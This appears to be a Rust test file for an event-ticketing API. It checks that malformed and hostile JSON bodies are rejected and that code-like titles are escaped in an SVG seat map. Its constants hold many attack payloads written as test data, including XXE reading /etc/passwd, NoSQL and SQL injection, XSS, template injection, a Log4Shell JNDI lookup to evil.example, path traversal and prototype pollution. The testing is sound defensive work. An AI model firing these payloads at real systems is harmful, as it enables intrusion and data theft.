//! JSON bodies: invalid JSON, hostile fields, and texts that look like code.

use serde_json::json;
use tests::{Api, new_stack, sample};

use crate::{
    case::{Case, case_of, operations},
    service::{assert_accepted, assert_rejected},
};

const MAX_BODY: usize = 4_700_000;

#[tokio::test(flavor = "multi_thread")]
async fn hostile_bodies_are_rejected() {
    let member = sample::member().to_string();
    let utf_16: Vec<u8> = [0xFEFF].into_iter().chain(member.encode_utf16()).flat_map(u16::to_le_bytes).collect();
    let utf_32: Vec<u8> = member.chars().flat_map(|c| u32::from(c).to_le_bytes()).collect();
    let mut not_json: Vec<Vec<u8>> = NOT_JSON.iter().map(|body| body.to_vec()).collect();
    not_json.extend(BAD_VALUES.split(' ').map(|json| format!("{{\"unknown\":{json}}}").into_bytes()));
    not_json.extend(NOT_UTF_8.map(|text| [br#"{"name":""#, text, br#""}"#].concat()));
    not_json.extend([utf_16, utf_32, format!("[{member}]").into(), format!("{member},{{}}").into()]);
    let mut cases = Vec::new();
    for operation in operations().iter().filter(|operation| operation.takes_json()) {
        let not_json = not_json.iter().filter(|body| !body.is_empty() || operation.needs_body);
        cases.extend(not_json.map(|body| Case { body: body.clone(), ..case_of(operation, "C_002") }));
    }
    for operation in operations().iter().filter(|operation| operation.media_type.is_some()) {
        cases.push(Case { body: vec![b' '; MAX_BODY + 1], ..case_of(operation, "C_005") });
    }
    cases.extend(BAD_FIELDS.iter().map(|body| Case::join(*body, "C_001")));
    cases.push(Case::join(vec![b'['; 11_000_000], "C_005"));
    assert_rejected(&cases).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn harmless_bodies_are_accepted() {
    let with = |json: &str| sample::member().to_string().replacen('{', &format!("{{{json},"), 1);
    assert_accepted(&IGNORED.map(|json| Case::join(with(json), "0"))).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn texts_that_look_like_code_are_returned() {
    let stack = new_stack().await;
    let api = Api::with_url(&stack.url());
    for text in TEXTS {
        let mut event = sample::event();
        event["title"] = text.into();
        event["artist"] = text.into();
        event["areas"][0]["label"] = json!(text.chars().take(50).collect::<String>());
        let created = api.create(&event).await.expect(201, "0").data();
        assert_eq!([&created["title"], &created["artist"]], [text, text]);
        let seat_map = api.get(&format!("/api/v1/events/{}/seat-map.svg", created["id"].as_str().unwrap())).await;
        let document = seat_map.text();
        let document = roxmltree::Document::parse(&document).unwrap();
        let title = document.descendants().find(|node| node.has_tag_name("title")).unwrap();
        assert_eq!(
            title.text().map(|title| title.replace('\u{fffd}', "")),
            Some(text.replace(['\u{fffe}', '\u{ffff}'], ""))
        );
    }
}

/// Bodies that are no JSON objects.
const NOT_JSON: [&[u8]; 25] = [
    b"",
    b"\xEF\xBB\xBF{}",
    b"\0",
    b"null",
    b"1",
    b"\"{}\"",
    b"[{}]",
    b"{",
    b"{\"a\":[1}",
    b"{\"name\":\"a\",}",
    b"{1:\"a\"}",
    b"{name:\"a\"}",
    b"{'name':'a'}",
    b"{/* a */\"name\":\"a\"}",
    b"{\"name\":\"a\nb\"}",
    b"{\"name\":\"a\\",
    b"{\"name\":\"\\x41\"}",
    b"{\"\\ud83c\":\"a\"}",
    b"{}{}",
    b"callback({})",
    b")]}',\n{}",
    b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
    b"email=a%40example.com&name=a",
    b"\xAC\xED\0\x05sr\0\x04",
    b"\x1F\x8B\x08\0\0\0\0\0\0\x03",
];

/// Overlong, surrogate, truncated and other characters that are not UTF-8.
const NOT_UTF_8: [&[u8]; 6] =
    [b"\xC0\xAF", b"\xE0\x80\xAF", b"\xED\xA0\x80", b"\xF4\x90\x80\x80", b"\x80", b"\xED\x95"];

/// Invalid values of an unknown field.
const BAD_VALUES: &str = "NaN -Infinity 0x1F 017 +1 .5 1. 1e -- 1_000 １ undefined True /a/";

/// Valid JSON with invalid fields of a member.
const BAD_FIELDS: [&str; 10] = [
    r#"{"__proto__":{"email":"a@example.com","name":"a","nickname":"a","password":"a"}}"#,
    r#"{"EMAIL":"a@example.com","Name":"a","nickName":"a","PassWord":"a"}"#,
    "{\"email\\u0000\":\"a@example.com\",\"name \":\"a\",\"ｎickname\":\"a\"}",
    r#"{"name":1e999999}"#,
    r#"{"email":{"$ne":null},"password":{"$gt":""}}"#,
    r#"{"email":{"S":"a@example.com"},"name":{"NULL":true}}"#,
    r#"{"email":"a@example.com\r\nBcc: b@example.com"}"#,
    r#"{"email":"a@example.com\u0000.evil.example"}"#,
    r#"{"name":"\u001b[2J"}"#,
    r#"{"nickname":"a\n{\"level\":\"INFO\"}"}"#,
];

/// Unknown fields, which are ignored.
const IGNORED: [&str; 8] = [
    r#""__proto__":{"isAdmin":true}"#,
    r#""id":"00000000-0000-0000-0000-000000000000","pk":"MEMBER#1","sk":"MEMBER""#,
    r#""a":-1e-999999"#,
    r#""a":1,"a":2"#,
    r#""a":{"b":["\ud800"]}"#,
    r#""a":"\u0000""#,
    "\"\u{feff}\":\"\u{2028}\"",
    r#""\u0061":"\"\\\/\b\f\n\r\t""#,
];

const TEXTS: [&str; 9] = [
    "<script>alert(1)</script>",
    "</title><image href=x onerror=alert(1)>]]>-->",
    "' onload='alert(1)\"><svg/onload=alert(1)>",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "'; DROP TABLE events; --",
    "${jndi:ldap://evil.example/a}",
    "../../etc/passwd EVENT#1",
    "\u{202e}gnp.exe\u{2066}\u{200b}",
    "\u{ffff}a\u{fffe}",
];
